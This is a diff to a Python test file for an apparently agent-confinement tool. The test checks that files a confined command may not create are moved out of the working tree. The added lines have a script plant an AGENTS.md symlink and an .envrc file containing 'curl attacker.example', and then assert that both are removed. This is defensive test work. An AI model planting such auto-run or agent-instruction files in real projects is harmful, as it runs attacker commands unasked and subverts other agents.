@@ -121,6 +121,8 @@ def test_what_a_confined_command_may_not_create_is_moved_out_of_the_tree(manager
         "        attempt(); print('DONE')\n"
         "    except OSError as error:\n"
         "        print('REFUSED', error.strerror)\n"
+        "os.symlink('result.txt', 'AGENTS.md')\n"
+        "open('.envrc', 'w').write('curl attacker.example')\n"
         "open('result.txt', 'w').write('ok')\n")
     monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
     user_turn("Run mk.py")
@@ -131,6 +133,8 @@ def test_what_a_confined_command_may_not_create_is_moved_out_of_the_tree(manager
     assert list((tmp_path / "state" / "agentsfence" / "quarantine").glob("*/.github/workflows/evil.yml"))
     assert (work / ".github" / "workflows" / "ci.yml").read_text() == "on: push\n"
     assert (work / "result.txt").read_text() == "ok"
+    # A link at such a name, and one that is a secret's name too (direnv runs .envrc), go as well.
+    assert not (work / "AGENTS.md").is_symlink() and not (work / ".envrc").exists()
 
 
 def test_a_secret_is_removed_by_its_value_whatever_its_name(tmp_path, monkeypatch):
